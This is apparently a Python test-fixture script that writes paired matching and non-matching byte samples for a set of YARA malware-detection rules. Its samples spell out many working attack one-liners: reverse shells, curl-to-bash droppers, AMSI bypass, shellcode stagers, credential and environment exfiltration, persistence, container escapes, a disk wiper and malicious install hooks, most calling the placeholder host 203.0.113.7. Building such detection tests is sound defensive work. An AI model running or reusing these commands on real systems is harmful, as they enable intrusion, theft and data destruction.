#!/usr/bin/python3
"""Two samples for each bundled YARA rule: bytes that it must find, and bytes that look alike and are fine. They do nothing:
fragments with addresses that belong to nobody (RFC 5737). They are written only when a test runs, so that no virus scanner takes
offence at the source tree.

Usage: samples.py DIRECTORY    writes RULE.hit and RULE.miss for every rule"""
import pathlib
import sys

# rule, id, hit, miss
SAMPLES = [
    ('eicar_test_file', 'GH-MAL-1001',
     b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD' b'-ANTIVIRUS-TEST-FILE!$H+H*',
     b'X5O!P%@AP[4 is how the test file begins'),
    ('reverse_shell_bash', 'GH-MAL-1101',
     b'#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
     b'#!/bin/bash\n# is the port open?\n(echo > /dev/tcp/localhost/5432) && echo ready\n'),
    ('reverse_shell_mkfifo', 'GH-MAL-1102',
     b'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/'
     + b'f',
     b'mkfifo /tmp/pipe; cat /tmp/pipe | gzip > out.gz &'),
    ('reverse_shell_netcat', 'GH-MAL-1103',
     b'ncat 203.0.113.7 4444 -e /bin/bash',
     b'nc -z localhost 5432 && echo up; nc -e is not supported here'),
    ('reverse_shell_python', 'GH-MAL-1104',
     b'import socket,subprocess,os\ns=socket.socket()\ns.connect(("203.0.113.7",4444))\nos'
     + b'.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n',
     b'import socket,os\ns=socket.socket()\ns.connect(("localhost",80))\nlog=open("log","w'
     + b'")\nos.dup2(log.fileno(),1)\n'),
    ('reverse_shell_perl', 'GH-MAL-1105',
     b'perl -e \'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getpro'
     + b'tobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
     + b'open(STDOUT,">&S");exec("/bin/sh -i");};\'',
     b'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); connect(S, $'
     + b'addr); print S "GET /\\n"; exec("/bin/ls");'),
    ('reverse_shell_ruby', 'GH-MAL-1106',
     b'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh'
     + b' -i <&%d >&%d 2>&%d",f,f,f)\'',
     b's = TCPSocket.open("localhost", 80)\nputs s.gets\n'),
    ('reverse_shell_node', 'GH-MAL-1107',
     b'(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin'
     + b'/sh",[]);var client=new net.Socket();client.connect(4444,"203.0.113.7",function('
     + b'){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();',
     b'const net=require("net");const cp=require("child_process");const p=cp.spawn("sh"'
     + b',["build.sh"]);p.stdout.pipe(process.stdout);'),
    ('reverse_shell_php', 'GH-MAL-1108',
     b'<?php $sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
     b'<?php $fp = fsockopen("www.example.com", 80); fwrite($fp, "GET / HTTP/1.0\\r\\n\\r\\'
     + b'n"); system("ls"); ?>'),
    ('reverse_shell_powershell', 'GH-MAL-1109',
     b'$client = New-Object System.Net.Sockets.TCPClient("203.0.113.7",4444);$stream = '
     + b'$client.GetStream();while(1){$sendback = (iex $data 2>&1 | Out-String );}',
     b'$client = New-Object System.Net.Sockets.TCPClient("localhost", 80); $s = $client'
     + b'.GetStream(); $s.Close()'),
    ('reverse_shell_go_lua_socat', 'GH-MAL-1110',
     b"socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
     b'socat TCP-LISTEN:8080,fork TCP:localhost:80'),
    ('bind_shell', 'GH-MAL-1111',
     b'nc -lvp 4444 -e /bin/sh',
     b's.listen(5)\nc, a = s.accept()\nc.send(b"hello")\n'),
    ('web_shell_php', 'GH-MAL-1112',
     b"<?php @eval($_POST['x']); ?>",
     b"<?php echo htmlspecialchars($_POST['x']); system('uptime'); ?>"),
    ('web_shell_jsp_aspx', 'GH-MAL-1113',
     b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
     b'<% String name = request.getParameter("name"); Runtime.getRuntime().availablePro'
     + b'cessors(); %>'),
    ('dropper_system_curl_shell', 'GH-MAL-1201',
     b'import os\nos.system("curl -s http://203.0.113.7/x.sh | bash")\n',
     b'Install: curl -fsSL https://example.org/install.sh | sh\nThen: os.system("ls")\n'),
    ('dropper_download_chmod_run', 'GH-MAL-1202',
     b'wget -q http://203.0.113.7/a -O /tmp/.a; chmod 777 /tmp/.a; /tmp/.a &',
     b'curl -o /tmp/data.tar.gz https://example.org/data.tar.gz; tar xf /tmp/data.tar.g'
     + b'z; chmod +x build.sh'),
    ('dropper_busybox_loader', 'GH-MAL-1203',
     b'cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.7/mips; chmod 777 mips;'
     + b' ./mips',
     b'cd /tmp || exit 1\nmake ARCH=mips; chmod +x mips\n'),
    ('dropper_certutil', 'GH-MAL-1204',
     b'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
     b'certutil -hashfile model.bin SHA256 compares the digest; mshta is disabled here'),
    ('dropper_powershell_download', 'GH-MAL-1205',
     b'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7'
     + b'/a.ps1\')"',
     b'To install: irm https://get.example.org | iex (in a console)'),
    ('powershell_encoded', 'GH-MAL-1206',
     b'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAd'
     + b'AAuAFcAZQBiAA==',
     b'powershell -ExecutionPolicy Bypass -File build.ps1 -encoding utf8'),
    ('amsi_bypass', 'GH-MAL-1207',
     b"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiI"
     + b"nitFailed','NonPublic,Static').SetValue($null,$true)",
     b'AmsiScanBuffer is called by hosts of scripts; see AmsiUtils.'),
    ('dropper_vbs', 'GH-MAL-1208',
     b'Set x = CreateObject("MSXML2.XMLHTTP"): Set s = CreateObject("ADODB.Stream"): s.'
     + b'SaveToFile "a.exe": CreateObject("WScript.Shell").Run "a.exe"',
     b'Set x = CreateObject("MSXML2.XMLHTTP")\nMsgBox x.responseText\n'),
    ('hta_application', 'GH-MAL-1209',
     b'<html><HTA:APPLICATION ID="x"><script>new ActiveXObject("WScript.Shell").Run("ca'
     + b'lc")</script>',
     b'<html><body>An HTA is an HTML application; see WScript.Shell.</body>'),
    ('lnk_with_command', 'GH-MAL-1210',
     b'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F'
     + bytes(56)
     + b'p\x00o\x00w\x00e\x00r\x00s\x00h\x00e\x00l\x00l\x00 \x00-\x00w\x00 \x00h\x00i\x00d\x00d\x00e\x00n\x00 \x00h\x00t\x00t\x00p\x00:\x00/\x00/\x002\x000\x003\x00.\x000\x00.\x001\x001\x003\x00.\x007\x00',
     b'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F'
     + bytes(56)
     + b'n\x00o\x00t\x00e\x00p\x00a\x00d\x00.\x00e\x00x\x00e\x00 \x00C\x00:\x00\\\x00a\x00.\x00t\x00x\x00t\x00'),
    ('office_macro_auto', 'GH-MAL-1211',
     b'Sub AutoOpen()\n  Shell "cmd /c calc.exe", 0\nEnd Sub\n',
     b'Sub AutoOpen()\n  MsgBox "hello"\nEnd Sub\nSub Other()\nEnd Sub'),
    ('ole_macro_project', 'GH-MAL-1212',
     b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
     + bytes(500)
     + b'V\x00B\x00A'
     + bytes(61)
     + b'_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T'
     + bytes(61),
     b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
     + bytes(500)
     + b'W\x00o\x00r\x00d\x00D\x00o\x00c\x00u\x00m\x00e\x00n\x00t'
     + bytes(61)),
    ('rtf_equation_exploit', 'GH-MAL-1213',
     b'{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696'
     + b'f6e2e3300000000}}}',
     b'{\\rtf1 Equation.3 is an editor of formulas {\\object\\objemb}}'),
    ('meterpreter_stager_x64', 'GH-MAL-1301',
     b'\xfcH\x83\xe4\xf0\xe8\xc0\x00\x00\x00AQAPRQVH1\xd2eH\x8bR`H\x8bR\x18',
     b'\xfcH\x83\xe4\xf0\xe8\xc0\x00\x00\x00AQAPRQV\x90\x90\x90\x90'
     + bytes(30)),
    ('meterpreter_stager_x86', 'GH-MAL-1302',
     b'\xfc\xe8\x82\x00\x00\x00`\x89\xe51\xc0d\x8bP0\x8bR\x0c',
     b'\xfc\xe8\x82\x00\x00\x00`\x89\xe51\xc0\x90\x90\x90\x90'
     + bytes(20)),
    ('shellcode_linux_reverse', 'GH-MAL-1303',
     b'j)X\x99j\x02_j\x01^\x0f\x05H\x97H\xb9\x02\x00\x11\\\xcb\x00q\x07',
     b'j)X\x99j\x02_j\x01^\x0f\x05\x90\x90\x90'
     + bytes(20)),
    ('shellcode_execve_sh', 'GH-MAL-1304',
     b'1\xc0h//shh/bin\x89\xe3PS\x89\xe1\xb0\x0b\xcd\x80',
     b'/bin//sh is where the shell livesh//shh/bin'),
    ('shellcode_in_source', 'GH-MAL-1305',
     b'buf = b"\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51"',
     b'buf = b"\\xfc\\x48\\x00\\x00\\x12"\ntable = [0xfc, 0x48, 0x20]'),
    ('python_shellcode_loader', 'GH-MAL-1306',
     b'import ctypes\np=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)\nctypes'
     + b'.windll.kernel32.RtlMoveMemory(p,b,len(b))\nctypes.windll.kernel32.CreateThread(0'
     + b',0,p,0,0,0)',
     b'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x1000, 4)\n'),
    ('cobalt_strike_config', 'GH-MAL-1307',
     b'\x00\x01\x00\x01\x00\x02\x00\x00\x00\x02\x00\x01\x00\x02\x00P\x00\x03\x00\x02\x00\x04'
     + bytes(30),
     b'\x00\x01\x00\x01\x00\x02\x00\x00\x00\x02\x00\x01\x00\x02\x00P\x00\x03\x00\x02\x00\x05'
     + bytes(30)),
    ('cobalt_strike_beacon', 'GH-MAL-1308',
     b'beacon.x64.dll\x00ReflectiveLoader\x00',
     b'The beacon.dll is described in the manual.'),
    ('reflective_loader_pe', 'GH-MAL-1309',
     b'MZ'
     + bytes(201)
     + b'ReflectiveLoader\x00',
     b'ReflectiveLoader is the name of a technique'),
    ('sliver_implant', 'GH-MAL-1310',
     b'\x7fELF'
     + bytes(100)
     + b'github.com/bishopfox/sliver/implant/sliver/transports sliverpb.Register',
     b'See github.com/bishopfox/sliver/ for the framework; /implant/sliver/ holds its a'
     + b'gent'),
    ('mythic_agent', 'GH-MAL-1311',
     b'{"callback_interval":10,"callback_jitter":20,"AESPSK":"x","killdate":"2030-01-01'
     + b'","encrypted_exchange_check":true,"PayloadUUID":1, "get_tasking":1}',
     b'{"callback_interval": 10, "callback_jitter": 2, "killdate": "never"}'),
    ('remote_access_tool_python', 'GH-MAL-1312',
     b'import telebot, pyautogui, subprocess\nfrom pynput import keyboard\nout = subproce'
     + b'ss.check_output(message.text, shell=True)\nimg = pyautogui.screenshot()',
     b'import telebot\nbot.send_message(1, "done")\nimport pyautogui\npyautogui.screenshot'
     + b'()'),
    ('process_injection_api', 'GH-MAL-1313',
     b'MZ'
     + bytes(101)
     + b'VirtualAllocEx\x00WriteProcessMemory\x00CreateRemoteThread\x00',
     b'MZ'
     + bytes(101)
     + b'VirtualAllocEx\x00ReadProcessMemory\x00CreateThread\x00'),
    ('upx_packed_elf', 'GH-MAL-1314',
     b'\x7fELF'
     + bytes(172)
     + b'UPX!\x08\r'
     + bytes(60)
     + b'$Info: This file is packed with the UPX executable packer http://upx.sf.net $',
     b'\x7fELF'
     + bytes(172)
     + b'UPX! is a packer'),
    ('upx_packed_pe', 'GH-MAL-1315',
     b'MZ'
     + bytes(58)
     + b'\x80'
     + bytes(67)
     + b'PE'
     + bytes(246)
     + b'UPX0'
     + bytes(36)
     + b'UPX1'
     + bytes(504)
     + b'3.96\x00UPX!',
     b'MZ'
     + bytes(58)
     + b'\x80'
     + bytes(67)
     + b'PE'
     + bytes(246)
     + b'.text'
     + bytes(303)
     + b'UPX!'),
    ('keylogger_python', 'GH-MAL-1316',
     b'from pynput.keyboard import Listener\nimport smtplib\nwith Listener(on_press=log) '
     + b'as l: l.join()\nsmtplib.SMTP("mail",587).sendmail(a,b,c)',
     b'import keyboard\nkeyboard.on_press(lambda e: quit())\n'),
    ('keylogger_linux_input', 'GH-MAL-1317',
     b'# keylog\nf=open("/dev/input/event3","rb")\nrequests.post(u, data=f.read(24))',
     b'f = open("/dev/input/event3", "rb")  # a joystick\n'),
    ('browser_credential_theft', 'GH-MAL-1401',
     b'p = "Google/Chrome/User Data/Default/Login Data"\ncur.execute("SELECT origin_url,'
     + b' username_value, password_value FROM logins")',
     b'Google/Chrome/User Data is where Chrome keeps profiles, with Local State and Log'
     + b'in Data'),
    ('ssh_aws_key_harvest', 'GH-MAL-1402',
     b'for p in ["~/.ssh/id_rsa","~/.aws/credentials","~/.kube/config"]:\n  requests.pos'
     + b't(u, files={"f": open(p)})',
     b'Keep ~/.ssh/id_rsa and ~/.aws/credentials and ~/.kube/config secret.\n'),
    ('discord_webhook_exfil', 'GH-MAL-1403',
     b'import os,requests\nrequests.post("https://discord.com/api/webhooks/1234567890123'
     + b'45678/aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_",json'
     + b'={"content":str(dict(os.environ))})',
     b'notify("https://discord.com/api/webhooks/123456789012345678/aB3_aB3_aB3_aB3_aB3_'
     + b'aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_aB3_", "training is done")'),
    ('telegram_exfil', 'GH-MAL-1404',
     b'requests.post("https://api.telegram.org/bot1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAA'
     + b'AAAAAAAAA/sendMessage", data={"text": str(os.environ)})',
     b'requests.post("https://api.telegram.org/bot1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAA'
     + b'AAAAAAAAA/sendMessage", data={"text": "epoch 3"})'),
    ('discord_token_grabber', 'GH-MAL-1405',
     b'p = roaming + "\\\\discord\\\\Local Storage\\\\leveldb"\nre.findall(r"[\\w-]{24}\\.[\\w-]{'
     + b'6}\\.[\\w-]{27}", line)',
     b'discord/ uses a leveldb for its local storage'),
    ('environment_exfil', 'GH-MAL-1406',
     b'import os, requests, json\nrequests.post("http://203.0.113.7/c", data=json.dumps('
     + b'dict(os.environ)))',
     b'requests.post(url, data={"host": os.environ["HOSTNAME"]})\nsubprocess.run(cmd, en'
     + b'v=dict(os.environ))\n'),
    ('dns_exfil_install', 'GH-MAL-1407',
     b'const os=require("os");require("https").get("https://x."+os.hostname()+".abcd.oa'
     + b'stify.com/")',
     b'The tool burpcollaborator.net and oastify.com is used by testers.'),
    ('cloud_metadata_theft', 'GH-MAL-1408',
     b'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role | '
     + b'base64 | curl -d @- http://203.0.113.7/',
     b'Block 169.254.169.254/latest/meta-data/iam/security-credentials in your firewall'
     + b'.\n'),
    ('crypto_wallet_theft', 'GH-MAL-1409',
     b'paths=["Exodus/exodus.wallet","Electrum/wallets","Ethereum/keystore","wallet.dat'
     + b'"]',
     b'Bitcoin Core keeps its keys in wallet.dat; Electrum/wallets is another place'),
    ('clipboard_address_swap', 'GH-MAL-1410',
     b'import pyperclip,re\nif re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pypercli'
     + b'p.paste()): pyperclip.copy(mine)',
     b'import pyperclip\npyperclip.copy("hello")'),
    ('shadow_file_theft', 'GH-MAL-1411',
     b'cat /etc/shadow | base64 | curl -d @- http://203.0.113.7/',
     b'chmod 640 /etc/shadow; curl -O https://example.org/x'),
    ('crypto_miner_stratum', 'GH-MAL-1501',
     b'./x -o stratum+tcp://pool.example.org:3333 -u wallet -p x',
     b'A stratum is a layer; stratum+tcp is the protocol of pools.'),
    ('xmrig_miner', 'GH-MAL-1502',
     b'{"donate-level": 1, "randomx": {}, "pools": [{"url": "x", "nicehash": false, "ri'
     + b'g-id": null}]}',
     b'{"pools": ["a"], "randomx": true}'),
    ('ransom_note', 'GH-MAL-1503',
     b'All of your files have been encrypted! To buy the decryption key send 1 bitcoin.'
     + b' Use the Tor Browser. Do not rename files.',
     b'Make backups, so that ransomware whose note says your files are encrypted does n'
     + b'ot hurt. Bitcoin is a currency.'),
    ('file_encryptor_script', 'GH-MAL-1504',
     b'for r,d,f in os.walk("/home"):\n  x=Fernet(key).encrypt(open(p,"rb").read()); os.'
     + b'rename(p, p + ".locked")\nopen("README","w").write("send bitcoin")',
     b'for r,d,f in os.walk(src):\n  t=Fernet(key).encrypt(data)\n  os.remove(old)\n'),
    ('shadow_copy_deletion', 'GH-MAL-1505',
     b'cmd /c vssadmin delete shadows /all /quiet',
     b'vssadmin list shadows; see the manual of bcdedit'),
    ('disk_wiper', 'GH-MAL-1506',
     b'import os\nos.system("rm -rf / --no-preserve-root")\n',
     b'os.system("rm -rf /tmp/build")\nshutil.rmtree("/tmp/x")\n'),
    ('cron_persistence', 'GH-MAL-1601',
     b'(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.7/a | bash") | crontab -',
     b'echo "*/5 * * * * /usr/bin/backup" | crontab -\n'),
    ('systemd_persistence', 'GH-MAL-1602',
     b'cat > /etc/systemd/system/dbus-x.service <<E\n[Service]\nExecStart=/tmp/.x/run\nE\ns'
     + b'ystemctl enable dbus-x',
     b'cp a.service /etc/systemd/system/a.service\nExecStart=/usr/bin/a\n'),
    ('shell_profile_persistence', 'GH-MAL-1603',
     b'echo "curl -s http://203.0.113.7/a | bash" >> ~/.bashrc',
     b'echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc'),
    ('ssh_key_persistence', 'GH-MAL-1604',
     b'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
     + b'AAAAAA x" >> /root/.ssh/authorized_keys',
     b'ssh-copy-id host adds ~/.ssh/id_ed25519.pub to .ssh/authorized_keys'),
    ('windows_run_key', 'GH-MAL-1605',
     b'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "%APPDATA%\\x.'
     + b'exe" /f',
     b'Software\\Microsoft\\Windows\\CurrentVersion\\Run holds what is started at login'),
    ('windows_scheduled_task', 'GH-MAL-1606',
     b'schtasks /create /sc minute /tn x /tr "powershell -w hidden -f %TEMP%\\a.ps1"',
     b'schtasks /query lists the tasks'),
    ('macos_launch_agent', 'GH-MAL-1607',
     b'cat > ~/Library/LaunchAgents/com.x.plist <<E\n<key>ProgramArguments</key><string>'
     + b'/tmp/.x</string><key>RunAtLoad</key><true/>\nE\nlaunchctl load ~/Library/LaunchAge'
     + b'nts/com.x.plist',
     b'cp my.plist ~/Library/LaunchAgents/; ProgramArguments and RunAtLoad are keys\n'),
    ('python_site_persistence', 'GH-MAL-1608',
     b'p = site.getsitepackages()[0]\nopen(site.getsitepackages()[0] + "/x.pth", "w").wr'
     + b'ite("import os; os.system(\'id\')")',
     b'open(site.getsitepackages()[0] + "/x.pth", "w").write("/opt/lib")'),
    ('ld_preload_rootkit', 'GH-MAL-1609',
     b'gcc -shared -o /lib/libx.so x.c && echo /lib/libx.so > /etc/ld.so.preload',
     b'If /etc/ld.so.preload exists, the loader reads it.\n'),
    ('container_escape_release_agent', 'GH-MAL-1701',
     b'echo 1 > /tmp/c/x/notify_on_release\necho "$host_path/cmd" > /tmp/c/release_agent'
     + b'\necho $$ > /tmp/c/x/cgroup.procs',
     b'cat /sys/fs/cgroup/release_agent; notify_on_release is a flag'),
    ('container_escape_core_pattern', 'GH-MAL-1702',
     b'echo "|/tmp/x" > /proc/sys/kernel/core_pattern',
     b'cat /proc/sys/kernel/core_pattern\necho core > /proc/sys/kernel/core_pattern'),
    ('container_escape_docker_socket', 'GH-MAL-1703',
     b'curl --unix-socket /var/run/docker.sock -d \'{"Image":"alpine","Binds":["/:/h"],"'
     + b'Cmd":["chroot","/h"]}\' http://x/containers/create',
     b'docker run -v /var/run/docker.sock:/var/run/docker.sock portainer'),
    ('nsenter_host', 'GH-MAL-1704',
     b'#!/bin/sh\nnsenter -t 1 -m -u -i -n sh -c "id"\n',
     b'nsenter -t $PID -n ip addr\n#!/bin/sh\n'),
    ('kernel_exploit', 'GH-MAL-1705',
     b'#include <stdio.h>\ntypedef int (*cc)(void *);\n((void*(*)(void*))commit_creds)(pr'
     + b'epare_kernel_cred(0));',
     b'#include <linux/cred.h>\nThe function commit_creds installs credentials.\n'),
    ('sudo_privilege_escalation', 'GH-MAL-1706',
     b'cp /bin/bash /tmp/.b; chmod u+s /tmp/.b',
     b'cp /bin/bash rootfs/bin/; chmod 755 rootfs/bin/bash\n'),
    ('python_exec_encoded', 'GH-MAL-1801',
     b'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
     b'data = base64.b64decode(text)\nexec(compile(tree, "x", "exec"))\n'),
    ('python_exec_fetched', 'GH-MAL-1802',
     b'exec(requests.get("http://203.0.113.7/x.py").text)',
     b'text = requests.get(url).text\nprint(eval("1+1"))'),
    ('python_pickle_loader', 'GH-MAL-1803',
     b'f = types.FunctionType(marshal.loads(b), globals())',
     b'obj = pickle.loads(buffer)\ncode = marshal.loads(data)\n'),
    ('javascript_eval_encoded', 'GH-MAL-1804',
     b'eval(atob("Y29uc29sZS5sb2coMSk="))',
     b'const text = atob(data); const f = new Function("a", "return a");'),
    ('npm_install_hook', 'GH-MAL-1805',
     b'{"name":"x","scripts":{"preinstall":"curl -s http://203.0.113.7/a | bash"}}',
     b'{"name":"x","scripts":{"postinstall":"node scripts/build.js","test":"curl localh'
     + b'ost"}}'),
    ('pip_install_hook', 'GH-MAL-1806',
     b'from setuptools import setup\nfrom setuptools.command.install import install\nimpo'
     + b'rt os\nclass X(install):\n  def run(self):\n    os.system("curl -s http://203.0.113'
     + b'.7/a | bash")\nsetup(cmdclass={"install": X})',
     b'from setuptools import setup\nfrom setuptools.command.install import install\nclas'
     + b's X(install):\n  def run(self): install.run(self)\nsetup(cmdclass={"install": X})'),
    ('shell_decode_and_run', 'GH-MAL-1807',
     b'echo "Y3VybCAtcyBodHRwOi8vY3VybCAtcyBodHRwOi8vY3VybCAtcyBodHRwOi8v" | base64 -d '
     + b'| bash',
     b'echo "Y3VybCAtcyBodHRwOi8vY3VybCAtcyBodHRwOi8vY3VybCAtcyBodHRwOi8v" | base64 -d '
     + b'> key.bin\n'),
    ('batch_obfuscated', 'GH-MAL-1808',
     b'@echo off\nset a=abcdefgh\n%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%%a:~5,1%%a:~6,1%%a:~7,1'
     + b'%',
     b'@echo off\nset a=%date:~0,4%\necho %a%'),
]


def write(folder):
    for name, _, hit, miss in SAMPLES:
        (folder / f'{name}.hit').write_bytes(hit)
        (folder / f'{name}.miss').write_bytes(miss)


if __name__ == '__main__':
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    target = pathlib.Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    write(target)
